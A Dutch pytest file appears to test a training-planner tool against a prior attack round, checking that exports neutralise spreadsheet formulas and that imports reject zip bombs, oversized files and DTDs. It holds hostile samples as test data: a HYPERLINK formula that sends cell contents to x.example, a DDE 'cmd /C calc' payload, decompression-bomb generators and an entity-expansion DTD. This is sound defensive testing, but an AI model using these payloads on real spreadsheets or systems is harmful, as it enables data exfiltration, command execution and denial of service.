"""Issue 16 voor de leerdoelwijzer: elke aanval uit de aanvalsronde, nagespeeld (test_16_N_…).

Formules in spreadsheets (1), alles-of-niets bij create en geen tracebacks bij vreemde
antwoorden en teamnamen (3), begrensd werk bij vijandige bestanden (5), terugschrijven via
een koppeling (7), een byte-gelijke reservekopie en behouden opmaak (8), geen inhoud van
antwoordrijen in meldingen (11).
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import time
import zipfile
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner, Result

from tests.conftest import DATA, REPO
from trainingsplanner.bestanden.cellen import csv_cel, csv_tekst, tekstcel
from trainingsplanner.catalogus.laden import laad_catalogus
from trainingsplanner.cli.app import app
from trainingsplanner.profiel.model import laad_profiel

runner = CliRunner()
KLEIN = REPO / "examples" / "klein.yaml"
GRENS_S = 10.0
"""Ruime bovengrens per bom in de test; gemeten blijft elke weigering onder 2 s (zie het verslag)."""

KWAADAARDIG = [
    '=HYPERLINK("http://x.example/?d="&B1,"Balie")',
    "#N/A",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A2)",
    "\tTab",
    "\rCR",
]


@pytest.fixture
def profiel(in_tmp: Path) -> Path:
    shutil.copy(KLEIN, in_tmp / "klein.yaml")
    return in_tmp / "klein.yaml"


def _plan(*argumenten: str) -> Result:
    return runner.invoke(app, list(argumenten))


def _importeer(antwoorden: str, *extra: str, profiel: str = "klein.yaml") -> Result:
    return _plan("leerdoelwijzer", "import", antwoorden, "--gemeente", profiel, *extra)


def _teams_profiel(pad: Path, namen: list[str], medewerkers: int = 20) -> None:
    """Een profiel als klein.yaml, met deze teams (namen letterlijk, zonder aanhalingstekens)."""
    kop = KLEIN.read_text(encoding="utf-8").split("teams:")[0]
    kop = kop.replace("sessies_per_maand: 4", "sessies_per_maand: 1000")  # ook 5.000 teams passen
    teams = "".join(
        f"  - naam: {naam}\n    functiegroep: buitendienst\n    medewerkers: {medewerkers}\n"
        for naam in namen
    )
    pad.write_text(kop + "teams:\n" + teams, encoding="utf-8")


def _csv(rijen: Iterable[Iterable[str]]) -> str:
    uit = io.StringIO()
    csv.writer(uit, delimiter=";", lineterminator="\r\n").writerows(rijen)
    return uit.getvalue()


KOP = ["Team [team]", "1b. Leren? [leren:emotionele-veerkracht]", "Open [open:wens]"]


# ------------------------------------------------------------------ 1. formules


def test_16_1_csv_cel_krijgt_apostrof_voor_formuletekens() -> None:
    for waarde in KWAADAARDIG:
        assert csv_cel(waarde) == ("'" + waarde if waarde[0] != "#" else waarde)
    assert csv_cel("Balie") == "Balie"
    rijen = list(csv.reader(io.StringIO(csv_tekst([KWAADAARDIG]).lstrip("\ufeff")), delimiter=";"))
    assert all(not w.startswith(("=", "+", "-", "@", "\t", "\r")) for w in rijen[0])


def test_16_1_xlsx_tekst_blijft_tekst() -> None:
    boek = Workbook()
    blad = boek.active
    assert blad is not None
    for i, waarde in enumerate(KWAADAARDIG, start=1):
        tekstcel(blad, i, 1, waarde)
    uit = io.BytesIO()
    boek.save(uit)
    terug = load_workbook(io.BytesIO(uit.getvalue())).active
    assert terug is not None
    for i, waarde in enumerate(KWAADAARDIG, start=1):
        cel = terug.cell(i, 1)
        assert cel.data_type == "s"
        # Zonder lxml maakt de XML-lezer van CR een LF; met lxml (python-docx) blijft CR staan.
        assert cel.value in (waarde, waarde.replace("\r", "\n"))


def _alle_bestanden_zonder_formules(map: Path) -> None:
    """Elke CSV en XLSX die de leerdoelwijzer schreef: geen formule- of foutcel, geen =…-waarde."""
    bestanden = sorted(map.glob("*.xlsx")) + sorted(map.glob("*.csv"))
    assert bestanden
    for pad in bestanden:
        if pad.suffix == ".xlsx":
            boek = load_workbook(pad)
            for blad in boek.worksheets:
                for rij in blad.iter_rows():
                    for cel in rij:
                        assert cel.data_type not in ("f", "e"), (pad.name, blad.title, cel)
                for keuze in blad.data_validations.dataValidation:
                    assert str(keuze.formula1).startswith("=Keuzes!$"), keuze.formula1
        else:
            tekst = pad.read_text(encoding="utf-8-sig")
            for waarden in csv.reader(io.StringIO(tekst), delimiter=";"):
                assert not any(w.startswith(("=", "+", "-", "@", "\t", "\r")) for w in waarden)


def test_16_1_create_schrijft_nergens_een_formule(profiel: Path) -> None:
    namen = ["'" + n.replace("'", "''") + "'" for n in KWAADAARDIG[:5]]  # YAML-tekst
    _teams_profiel(profiel, namen)
    profiel.write_text(
        profiel.read_text(encoding="utf-8").replace(
            "gemeente: Gemeente Klein-Heuvelrug", 'gemeente: "=1+2"'
        ),
        encoding="utf-8",
    )
    (profiel.parent / "uit").mkdir()
    resultaat = _plan("leerdoelwijzer", "create", "--gemeente", "klein.yaml", "--out", "uit")
    assert resultaat.exit_code == 0, resultaat.output
    _alle_bestanden_zonder_formules(profiel.parent / "uit")
    boek = load_workbook(next((profiel.parent / "uit").glob("*.xlsx")))
    assert boek["Keuzes"]["A1"].value in KWAADAARDIG
    assert boek["Uitleg"]["A2"].value == "=1+2"


def test_16_1_csv_kop_uit_catalogus_krijgt_apostrof(profiel: Path, tmp_path: Path) -> None:
    catalogus = tmp_path / "cat"
    shutil.copytree(REPO / "data", catalogus)
    wijzer = catalogus / "leerdoelwijzer.yaml"
    wijzer.write_text(
        wijzer.read_text(encoding="utf-8").replace(
            '{id: wens, vraag: "Wat', '{id: wens, vraag: "=HYPERLINK(1) Wat'
        ),
        encoding="utf-8",
    )
    (profiel.parent / "uit").mkdir()
    resultaat = _plan(
        "leerdoelwijzer",
        "create",
        "--gemeente",
        "klein.yaml",
        "--out",
        "uit",
        "--team",
        "Buitendienst",
        "--catalogus",
        str(catalogus),
    )
    assert resultaat.exit_code == 0, resultaat.output
    kop = (profiel.parent / "uit" / "leerdoelwijzer-buitendienst.csv").read_text("utf-8-sig")
    assert ";'=HYPERLINK(1) Wat" in kop
    _alle_bestanden_zonder_formules(profiel.parent / "uit")


# ------------------------------------------------------------------ 3. tracebacks, alles of niets


def test_16_3_stuurteken_in_teamnaam_niets_geschreven_en_opnieuw_zonder_bestaat_al(
    profiel: Path,
) -> None:
    goed = profiel.read_text(encoding="utf-8")
    profiel.write_text(goed.replace("naam: Klantcontactcentrum", 'naam: "KCC\\x01"'), "utf-8")
    uit = profiel.parent / "uit"
    uit.mkdir()
    resultaat = _plan("leerdoelwijzer", "create", "--gemeente", "klein.yaml", "--out", "uit")
    assert resultaat.exit_code == 2
    assert "teams[5].naam" in resultaat.stderr and "klein.yaml:" in resultaat.stderr
    assert "Error" not in resultaat.stderr and "Traceback" not in resultaat.output
    assert list(uit.iterdir()) == []
    profiel.write_text(goed, "utf-8")
    opnieuw = _plan("leerdoelwijzer", "create", "--gemeente", "klein.yaml", "--out", "uit")
    assert opnieuw.exit_code == 0, opnieuw.output
    assert "bestaat al" not in opnieuw.output
    assert len(list(uit.iterdir())) == 18


def test_16_3_create_schrijft_alles_of_niets(profiel: Path) -> None:
    uit = profiel.parent / "uit"
    uit.mkdir()
    (uit / "leerdoelwijzer-klantcontactcentrum.xlsx").mkdir()  # het laatste doel kan niet
    resultaat = _plan("leerdoelwijzer", "create", "--gemeente", "klein.yaml", "--out", "uit")
    assert resultaat.exit_code == 2
    assert "leerdoelwijzer-klantcontactcentrum.xlsx: dit is een map" in resultaat.stderr
    assert [p.name for p in uit.iterdir()] == ["leerdoelwijzer-klantcontactcentrum.xlsx"]


@pytest.mark.parametrize("antwoord", ["²", "³", "①", "٣", "10", "-1", "2.5"])
def test_16_3_vreemde_cijfers_als_antwoord(antwoord: str, profiel: Path) -> None:
    (profiel.parent / "a.csv").write_text(_csv([KOP, ["Buitendienst", antwoord]]), "utf-8")
    resultaat = _importeer("a.csv")
    assert resultaat.exit_code == 2, resultaat.output
    assert resultaat.stderr.startswith(
        "a.csv:2:2: kolom B: geen antwoord op deze schaal; kies uit: niet nodig, een beetje"
    )


@pytest.mark.parametrize("inhoud", [";;;;\r\n;;;;\r\n", ";;;;", "\r\n\r\n", " ; ;\n"])
def test_16_3_alleen_scheidingstekens(inhoud: str, profiel: Path) -> None:
    (profiel.parent / "a.csv").write_text(inhoud, "utf-8")
    resultaat = _importeer("a.csv")
    assert resultaat.exit_code == 2
    assert resultaat.stderr.startswith("a.csv:1:1: het bestand is leeg")


def test_16_3_teamnamen_die_op_getallen_lijken(profiel: Path) -> None:
    namen = ["010", "0o17", "0x1F", "1_000", "1e3", ".inf"]
    _teams_profiel(profiel, namen)
    rijen = [KOP] + [[n, "graag"] for n in namen for _ in range(5)]
    (profiel.parent / "a.csv").write_text(_csv(rijen), "utf-8")
    resultaat = _importeer("a.csv")
    assert resultaat.exit_code == 0, resultaat.output
    tekst = profiel.read_text(encoding="utf-8")
    for naam in namen:
        assert f"  - naam: {naam}\n" in tekst  # letterlijk gebleven, niet 8, 15, 31, 1000, …
    assert tekst.count("    leerdoelen: [emotionele-veerkracht]\n") == 6
    assert _plan("generate", "--gemeente", "klein.yaml", "--out", "-").exit_code in (0, 1)


# ------------------------------------------------------------------ 5. begrensd werk


def _xlsx(pad: Path, blad: Iterable[bytes], *, niveau: int = 1) -> None:
    """Een minimaal XLSX-bestand; het werkblad wordt in stukken geschreven (klein op schijf)."""
    rels = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        b"</Relationships>"
    )
    werkboek = (
        b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        b'2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        b'<sheets><sheet name="Antwoorden" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    with zipfile.ZipFile(pad, "w", zipfile.ZIP_DEFLATED, compresslevel=niveau) as zip:
        zip.writestr("xl/workbook.xml", werkboek)
        zip.writestr("xl/_rels/workbook.xml.rels", rels)
        with zip.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as uit:
            uit.write(
                b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                b'spreadsheetml/2006/main"><sheetData>'
            )
            for deel in blad:
                uit.write(deel)
            uit.write(b"</sheetData></worksheet>")


def _kopregel() -> bytes:
    cellen = "".join(f'<c t="inlineStr"><is><t>{k}</t></is></c>' for k in KOP)
    return f'<row r="1">{cellen}</row>'.encode()


def _bom(pad: Path, *, profiel: str = "klein.yaml") -> tuple[Result, float]:
    assert pad.stat().st_size < 20 * 1024 * 1024
    begin = time.perf_counter()
    resultaat = _importeer(pad.name, "--dry-run", profiel=profiel)
    return resultaat, time.perf_counter() - begin


@pytest.mark.slow
def test_16_5_xlsx_cel_van_600_mb(profiel: Path) -> None:
    def blad() -> Iterator[bytes]:
        yield _kopregel() + b'<row r="2"><c r="A2" t="inlineStr"><is><t>'
        blok = b"A" * (1 << 20)
        for _ in range(600):
            yield blok
        yield b"</t></is></c></row>"

    _xlsx(profiel.parent / "bom.xlsx", blad())
    resultaat, duur = _bom(profiel.parent / "bom.xlsx")
    assert resultaat.exit_code == 2 and duur < GRENS_S
    assert "uitgepakt groter dan 256 MB" in resultaat.stderr


@pytest.mark.slow
def test_16_5_xlsx_cel_van_100_mb_onder_de_zipgrens(profiel: Path) -> None:
    def blad() -> Iterator[bytes]:
        yield _kopregel() + b'<row r="2"><c r="B2" t="inlineStr"><is><t>'
        blok = b"A" * (1 << 20)
        for _ in range(100):
            yield blok
        yield b"</t></is></c></row>"

    _xlsx(profiel.parent / "bom.xlsx", blad())
    resultaat, duur = _bom(profiel.parent / "bom.xlsx")
    assert resultaat.exit_code == 2 and duur < GRENS_S
    assert resultaat.stderr.startswith(
        "bom.xlsx:2:2: kolom B: deze cel is langer dan 32.767 tekens"
    )


@pytest.mark.slow
@pytest.mark.parametrize("met_verwijzing", [True, False])
def test_16_5_xlsx_twee_miljoen_kolommen(met_verwijzing: bool, profiel: Path) -> None:
    def blad() -> Iterator[bytes]:
        yield _kopregel() + b'<row r="2">'
        for i in range(0, 2_000_000, 10_000):
            yield b"".join(
                (f'<c r="A{j}2"' if met_verwijzing else "<c").encode() + b"><v>1</v></c>"
                for j in range(i, i + 10_000)
            )
        yield b"</row>"

    _xlsx(profiel.parent / "bom.xlsx", blad())
    resultaat, duur = _bom(profiel.parent / "bom.xlsx")
    assert resultaat.exit_code == 2 and duur < GRENS_S
    assert resultaat.stderr.startswith("bom.xlsx:2:1001: meer dan 1.000 kolommen")


@pytest.mark.slow
def test_16_5_xlsx_vijf_miljoen_rijen(profiel: Path) -> None:
    rij = b'<row><c t="inlineStr"><is><t>Buitendienst</t></is></c><c><v>2</v></c></row>'

    def blad() -> Iterator[bytes]:
        yield _kopregel()
        for _ in range(500):
            yield rij * 10_000

    _xlsx(profiel.parent / "bom.xlsx", blad())
    resultaat, duur = _bom(profiel.parent / "bom.xlsx")
    assert resultaat.exit_code == 2 and duur < GRENS_S
    assert "uitgepakt groter dan 256 MB" in resultaat.stderr


@pytest.mark.slow
def test_16_5_xlsx_rijen_onder_de_zipgrens(profiel: Path) -> None:
    rij = b'<row><c t="inlineStr"><is><t>Buitendienst</t></is></c><c><v>2</v></c></row>'

    def blad() -> Iterator[bytes]:
        yield _kopregel()
        for _ in range(200):
            yield rij * 10_000  # 2 miljoen rijen, 150 MB uitgepakt

    _xlsx(profiel.parent / "bom.xlsx", blad())
    resultaat, duur = _bom(profiel.parent / "bom.xlsx")
    assert resultaat.exit_code == 2 and duur < GRENS_S
    assert resultaat.stderr.startswith("bom.xlsx:100002:1: meer dan 100.000 ingevulde rijen")


@pytest.mark.slow
def test_16_5_xlsx_lege_rijen(profiel: Path) -> None:
    def blad() -> Iterator[bytes]:
        yield _kopregel()
        for _ in range(500):
            yield b"<row/>" * 10_000

    _xlsx(profiel.parent / "bom.xlsx", blad())
    resultaat, duur = _bom(profiel.parent / "bom.xlsx")
    assert resultaat.exit_code == 2 and duur < GRENS_S
    assert "meer rijen dan een Excel-werkblad heeft" in resultaat.stderr


@pytest.mark.slow
def test_16_5_xlsx_dtd_wordt_geweigerd(profiel: Path) -> None:
    lach = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    pad = profiel.parent / "bom.xlsx"
    _xlsx(pad, [_kopregel()])
    with zipfile.ZipFile(pad) as oud:
        delen = {n: oud.read(n) for n in oud.namelist()}
    delen["xl/workbook.xml"] = delen["xl/workbook.xml"].replace(b"?>", b"?>" + lach, 1)
    with zipfile.ZipFile(pad, "w") as nieuw:
        for naam, inhoud in delen.items():
            nieuw.writestr(naam, inhoud)
    resultaat, _ = _bom(pad)
    assert resultaat.exit_code == 2
    assert "bevat een DTD" in resultaat.stderr


@pytest.mark.parametrize(
    ("inhoud", "melding"),
    [
        ("Buitendienst;2\n" * 1_000_000, "a.csv:100002:1: meer dan 100.000 ingevulde rijen"),
        ("\n" * 19_000_000, "a.csv:1048577:1: meer rijen dan een Excel-werkblad heeft"),
        ("ab;" * 6_000_000, "a.csv:2:1001: meer dan 1.000 kolommen"),
        ("A" * 19_000_000, "a.csv:2:1: kolom A: deze cel is langer dan 32.767 tekens"),
    ],
)
@pytest.mark.slow
def test_16_5_csv_bommen(inhoud: str, melding: str, profiel: Path) -> None:
    (profiel.parent / "a.csv").write_text(";".join(KOP) + "\n" + inhoud, "utf-8")
    resultaat, duur = _bom(profiel.parent / "a.csv")
    assert resultaat.exit_code == 2 and duur < GRENS_S
    assert resultaat.stderr.startswith(melding), resultaat.stderr[:300]


@pytest.mark.slow
def test_16_5_bedoelde_u_begrensd(profiel: Path) -> None:
    _teams_profiel(profiel, [f"Team {i:04d} van de afdeling" for i in range(5000)])
    fout = [f"Taem {i:04d} van de afdelnig" for i in range(200)]
    rijen = [KOP] + [[fout[i % 200], "graag"] for i in range(20_000)]
    (profiel.parent / "a.csv").write_text(_csv(rijen), "utf-8")
    resultaat, duur = _bom(profiel.parent / "a.csv")
    assert resultaat.exit_code == 2 and duur < GRENS_S
    regels = resultaat.stderr.splitlines()
    assert regels[0] == (
        "a.csv:2:1: Team [team]: onbekend team 'Taem 0000 van de afdelnig'. "
        "Bedoelde u 'Team 0000 van de afdeling'?"
    )
    assert len(regels) == 52
    assert regels[-2] == (
        "a.csv:52:1: … en 19.950 problemen meer vanaf hier; los eerst de bovenstaande op"
    )


@pytest.mark.slow
def test_16_5_groot_profiel_kort_verschil(profiel: Path) -> None:
    namen = [f"Team {i:04d}" for i in range(5000)]
    _teams_profiel(profiel, namen)
    profiel.write_text(
        profiel.read_text("utf-8").replace(
            "    medewerkers: 20\n", "    medewerkers: 20\n    # " + "x" * 600 + "\n"
        ),
        "utf-8",
    )
    assert profiel.stat().st_size > 3_000_000
    rijen = [KOP] + [[n, "graag"] for n in namen for _ in range(5)]
    (profiel.parent / "a.csv").write_text(_csv(rijen), "utf-8")
    resultaat, duur = _bom(profiel.parent / "a.csv")
    assert resultaat.exit_code == 0, resultaat.output[-500:]
    assert duur < GRENS_S
    assert re.search(r"\n… en [0-9.]+ regels meer\n", resultaat.stdout)
    assert len(resultaat.stdout.splitlines()) < 20_000


# ------------------------------------------------------------------ 7. koppeling, 8. opmaak


def _zes_antwoorden(map: Path, team: str = "Buitendienst") -> None:
    (map / "a.csv").write_text(_csv([KOP] + [[team, "graag"]] * 6), "utf-8")


def test_16_7_profiel_via_koppeling_blijft_koppeling(profiel: Path) -> None:
    echt = profiel.parent / "echt"
    echt.mkdir()
    profiel.rename(echt / "klein.yaml")
    profiel.symlink_to(Path("echt") / "klein.yaml")
    _zes_antwoorden(profiel.parent)
    resultaat = _importeer("a.csv")
    assert resultaat.exit_code == 0, resultaat.output
    assert profiel.is_symlink()
    assert "leerdoelen: [emotionele-veerkracht]" in (echt / "klein.yaml").read_text("utf-8")
    assert (profiel.parent / "klein.yaml.bak").read_bytes() == KLEIN.read_bytes()


OPMAAK = (
    "\ufeff%YAML 1.1\r\n--- # profiel met eigen opmaak\r\n"
    "versie: 1\r\ngemeente:   'Gemeente Opmaak'   # twee spaties\r\n"
    "startdatum: 2027-02-01\r\n"
    "toelichting: " + "lang " * 1200 + "\r\n"
    "teams:\r\n"
    "    -   naam: Buitendienst\r\n"
    "        functiegroep: buitendienst\r\n"
    "        medewerkers: 35\r\n"
    "        leerdoelen:\r\n"
    "        - gespreksvoering   # eerder gekozen\r\n"
    "        # commentaar blijft\r\n"
    "    - {naam: Balie, functiegroep: publieksdiensten, medewerkers: 14}\r\n"
    "    -   naam: Sociaal team\r\n"
    "        functiegroep: sociaal-domein\r\n"
    "        medewerkers: 16\r\n"
    "        leerdoelwijzer:\r\n"
    "            respondenten: 3\r\n"
    "            datum: '2025-01-01'\r\n"
    "            drempel: 0.5\r\n"
    "...\r\n"
)


def test_16_8_reservekopie_byte_gelijk_en_opmaak_blijft(profiel: Path) -> None:
    oud = OPMAAK.encode("utf-8")
    profiel.write_bytes(oud.replace(b"toelichting: ", b"# toelichting: "))
    oud = profiel.read_bytes()
    rijen = [KOP] + [
        [t, "graag"] for t in ("Buitendienst", "Balie", "Sociaal team") for _ in range(6)
    ]
    (profiel.parent / "a.csv").write_text(_csv(rijen), "utf-8")
    resultaat = _importeer("a.csv")
    assert resultaat.exit_code == 0, resultaat.output
    assert (profiel.parent / "klein.yaml.bak").read_bytes() == oud
    nieuw = profiel.read_bytes()
    assert nieuw.startswith(b"\xef\xbb\xbf%YAML 1.1\r\n--- # profiel met eigen opmaak\r\n")
    assert nieuw.endswith(
        b"            drempel: 0.3\r\n        leerdoelen: [emotionele-veerkracht]\r\n...\r\n"
    )
    assert b"\n" not in nieuw.replace(b"\r\n", b"")  # overal CRLF
    assert b"gemeente:   'Gemeente Opmaak'   # twee spaties\r\n" in nieuw
    assert b"# toelichting: " + b"lang " * 1200 + b"\r\n" in nieuw  # niet afgebroken
    assert (
        b"        leerdoelen:\r\n        - gespreksvoering\r\n        - emotionele-veerkracht"
        b"   # eerder gekozen\r\n        leerdoelwijzer: {respondenten: 6, datum: '"
    ) in nieuw
    assert b"drempel: 0.3}\r\n        # commentaar blijft\r\n" in nieuw
    assert (
        b"    - {naam: Balie, functiegroep: publieksdiensten, medewerkers: 14, leerdoelen: "
        b"[emotionele-veerkracht], leerdoelwijzer: {respondenten: 6, datum: '"
    ) in nieuw
    assert b"            respondenten: 6\r\n            datum: '" in nieuw
    weg = [r for r in oud.split(b"\r\n") if r not in nieuw.split(b"\r\n")]
    assert weg == [
        b"        - gespreksvoering   # eerder gekozen",
        b"    - {naam: Balie, functiegroep: publieksdiensten, medewerkers: 14}",
        b"            respondenten: 3",
        b"            datum: '2025-01-01'",
        b"            drempel: 0.5",
    ]


# ------------------------------------------------------------------ 11. geen inhoud in meldingen


def test_16_11_open_aanhalingsteken_noemt_rij_en_kolom_niet_de_inhoud(profiel: Path) -> None:
    rijen = [
        ";".join(KOP),
        "Buitendienst;graag;geheim antwoord een",
        'Buitendienst;graag;"geheim twee',
    ]
    rijen += ["Buitendienst;graag;geheim drie"] * 5
    (profiel.parent / "a.csv").write_text("\r\n".join(rijen) + "\r\n", "utf-8")
    resultaat = _importeer("a.csv")
    assert resultaat.exit_code == 2
    assert resultaat.stderr.startswith(
        'a.csv:3:3: kolom C: een aanhalingsteken (") wordt niet gesloten'
    )
    assert "geheim" not in resultaat.output and "end of data" not in resultaat.output


def test_16_11_antwoorden_en_vreemde_teams_niet_in_meldingen(profiel: Path) -> None:
    rijen = [
        KOP,
        ["Buitendienst", "Ik word bedreigd door de buurman", ""],
        ["Jan de Vries", "graag", ""],
        ["Buitedienst", "graag", ""],
    ]
    (profiel.parent / "a.csv").write_text(_csv(rijen), "utf-8")
    resultaat = _importeer("a.csv")
    assert resultaat.exit_code == 2
    assert "bedreigd" not in resultaat.output and "Jan" not in resultaat.output
    assert resultaat.stderr.splitlines()[:3] == [
        "a.csv:2:2: kolom B: geen antwoord op deze schaal; kies uit: niet nodig, een beetje, "
        "graag, heel graag",
        "a.csv:3:1: Team [team]: onbekend team: deze naam staat niet in het profiel; kies een "
        "team uit het profiel",
        "a.csv:4:1: Team [team]: onbekend team 'Buitedienst'. Bedoelde u 'Buitendienst'?",
    ]


@pytest.mark.parametrize(
    "ruw",
    [
        b"PK\x05\x06" + b"\x00" * 18,
        b"PK\x03\x04 kapot",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100,
    ],
)
def test_16_11_kapotte_excel_bestanden_nederlands(ruw: bytes, profiel: Path) -> None:
    (profiel.parent / "a.xlsx").write_bytes(ruw)
    resultaat = _importeer("a.xlsx")
    assert resultaat.exit_code == 2
    assert resultaat.stderr.startswith("a.xlsx:1:1: ")
    assert "Excel" in resultaat.stderr and "Error" not in resultaat.stderr


_STIJL = st.fixed_dictionaries(
    {
        "flow": st.booleans(),
        "leerdoelen": st.sampled_from(["geen", "stroom", "blok", "leeg", "blok-inline"]),
        "herkomst": st.sampled_from(["geen", "stroom", "blok"]),
        "commentaar": st.booleans(),
        "antwoorden": st.booleans(),
    }
)


def _team_yaml(i: int, stijl: dict[str, Any], inspringing: int) -> str:
    s = " " * inspringing
    velden = [("naam", f"T{i}"), ("functiegroep", "buitendienst"), ("medewerkers", "20")]
    if stijl["flow"]:
        extra = {"stroom": ", leerdoelen: [gespreksvoering]", "leeg": ", leerdoelen: []"}
        tekst = ", ".join(f"{k}: {v}" for k, v in velden) + extra.get(stijl["leerdoelen"], "")
        if stijl["herkomst"] != "geen":
            tekst += ", leerdoelwijzer: {respondenten: 1, datum: '2025-01-01', drempel: 0.5}"
        return f"{s}- {{{tekst}}}" + (" # c\n" if stijl["commentaar"] else "\n")
    binnen = s + "  "
    regels = [
        f"{s}- {k}: {v}" if j == 0 else f"{binnen}{k}: {v}" for j, (k, v) in enumerate(velden)
    ]
    if stijl["leerdoelen"] == "stroom":
        regels.append(f"{binnen}leerdoelen: [gespreksvoering]  # gekozen")
    elif stijl["leerdoelen"] == "leeg":
        regels.append(f"{binnen}leerdoelen: []")
    elif stijl["leerdoelen"] in ("blok", "blok-inline"):
        streep = binnen if stijl["leerdoelen"] == "blok-inline" else binnen + "  "
        regels += [
            f"{binnen}leerdoelen:",
            f"{streep}- gespreksvoering",
            f"{streep}- servicegerichtheid",
        ]
    if stijl["herkomst"] == "stroom":
        regels.append(
            f"{binnen}leerdoelwijzer: {{respondenten: 1, datum: '2025-01-01', drempel: 0.5}}"
        )
    elif stijl["herkomst"] == "blok":
        regels += [
            f"{binnen}leerdoelwijzer:",
            f"{binnen}  respondenten: 1",
            f"{binnen}  datum: '2025-01-01'",
        ]
        regels.append(f"{binnen}  drempel: 0.5")
    if stijl["commentaar"]:
        regels.append(f"{binnen}# commentaar bij T{i}")
    return "\n".join(regels) + "\n"


@pytest.mark.slow
@given(
    stijlen=st.lists(_STIJL, min_size=1, max_size=5),
    inspringing=st.sampled_from([0, 2, 4]),
    crlf=st.booleans(),
    bom=st.booleans(),
    einde=st.sampled_from(["", "...\n", "# slot\n", "NOEOL"]),
)
@settings(
    max_examples=150,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
def test_16_8_terugschrijven_in_elke_stijl(
    stijlen: list[dict[str, Any]],
    inspringing: int,
    crlf: bool,
    bom: bool,
    einde: str,
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    kop = KLEIN.read_text(encoding="utf-8").split("teams:")[0]
    tekst = kop + "teams:\n" + "".join(_team_yaml(i, s, inspringing) for i, s in enumerate(stijlen))
    tekst = tekst.rstrip("\n") if einde == "NOEOL" else tekst + einde
    if crlf:
        tekst = tekst.replace("\n", "\r\n")
    oud = ("\ufeff" if bom else "").encode() + tekst.encode()
    map = tmp_path_factory.mktemp("p")
    (map / "p.yaml").write_bytes(oud)
    rijen = [KOP] + [
        [f"T{i}", "graag"] for i, s in enumerate(stijlen) if s["antwoorden"] for _ in range(5)
    ]
    rijen += [[f"T{len(stijlen) - 1}", "niet nodig"]] * 5
    (map / "a.csv").write_text(_csv(rijen), "utf-8")
    resultaat = runner.invoke(
        app, ["leerdoelwijzer", "import", str(map / "a.csv"), "--gemeente", str(map / "p.yaml")]
    )
    assert resultaat.exception is None or isinstance(resultaat.exception, SystemExit), repr(
        resultaat.exception
    )
    assert resultaat.exit_code == 0, resultaat.output
    nieuw = (map / "p.yaml").read_bytes()
    assert nieuw.startswith(b"\xef\xbb\xbf") == bom
    assert (b"\r\n" in nieuw) == crlf and (b"\n" not in nieuw.replace(b"\r\n", b"") or not crlf)
    if einde not in ("", "NOEOL"):
        assert nieuw.endswith(einde.replace("\n", "\r\n" if crlf else "\n").encode())
    assert (map / "p.yaml.bak").read_bytes() == oud
    profiel = laad_profiel(map / "p.yaml", laad_catalogus(DATA))
    for i, stijl in enumerate(stijlen):
        team = profiel.teams[i]
        bijgewerkt = stijl["antwoorden"] or i == len(stijlen) - 1
        assert (team.leerdoelwijzer is not None) == (bijgewerkt or stijl["herkomst"] != "geen")
        if bijgewerkt:
            assert team.leerdoelwijzer is not None
            assert team.leerdoelwijzer.respondenten == 5 * (
                stijl["antwoorden"] + (i == len(stijlen) - 1)
            )
        assert ("emotionele-veerkracht" in team.leerdoelen) == stijl["antwoorden"]
